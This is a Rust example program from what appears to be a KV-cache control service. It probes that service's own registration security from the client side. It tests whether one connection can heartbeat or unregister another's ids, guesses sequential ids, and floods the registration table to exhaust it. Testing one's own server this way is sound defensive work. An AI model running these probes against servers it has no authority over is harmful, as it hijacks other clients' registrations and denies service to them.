//! The attack on KV-cache registrations (docs/security.md), as a
//! client: are ids guessable, may one connection heartbeat or unregister
//! another's registration, and can one connection fill the table.
//!
//! `cargo run -p fabrickv-control --example registration_attack -- HOST:PORT`
//! against a server's gRPC address; prints what it saw, one line a probe.

use fabrickv_control::{ControlClient, Registration};

/// Registrations the flood asks for, above the table's 4,096.
const FLOOD_REGISTRATIONS: usize = 5_000;

/// Ids below its own the guesser tries.
const GUESSES: u64 = 100;

fn main() {
    let addr = std::env::args()
        .nth(1)
        .expect("usage: registration_attack HOST:PORT");
    let connect = || ControlClient::connect(&addr).expect("connect to gRPC");
    let register = |c: &ControlClient| {
        c.register(Registration {
            client_id: 0,
            addresses: vec!["victim".into()],
            receive_buffer_bytes: 0,
        })
    };
    let victim = connect();
    let ids: Vec<u64> = (0..5)
        .map(|_| register(&victim).expect("register").client_id)
        .collect();
    println!("ids of one connection: {ids:?}");
    let attacker = connect();
    let hb = attacker.heartbeat(ids[0]);
    println!(
        "another connection heartbeats id {}: {:?}",
        ids[0],
        hb.map_err(|e| e.code)
    );
    let un = attacker.unregister(ids[1]);
    println!(
        "another connection unregisters id {}: {:?}",
        ids[1],
        un.map_err(|e| e.code)
    );
    println!(
        "the victim's heartbeat of id {} after that: {:?}",
        ids[1],
        victim.heartbeat(ids[1]).map_err(|e| e.code)
    );
    // The attacker's own id tells it where the others are, if ids count.
    let own = register(&attacker).expect("register").client_id;
    let hit = (1..=GUESSES)
        .filter(|d| attacker.heartbeat(own.wrapping_sub(*d)).is_ok())
        .count();
    println!("guesses below its own id {own} that heartbeat: {hit} of {GUESSES}");
    let _ = attacker.unregister(own);
    let flood = connect();
    let mut held = 0;
    let mut refusal = None;
    for _ in 0..FLOOD_REGISTRATIONS {
        match register(&flood) {
            Ok(_) => held += 1,
            Err(e) => {
                refusal = Some(format!("{}: {}", e.code, e.message));
                break;
            }
        }
    }
    println!("one connection registered {held} before: {refusal:?}");
    let late = connect();
    println!(
        "a new connection registers after the flood: {:?}",
        register(&late).map(|r| r.client_id).map_err(|e| e.code)
    );
}
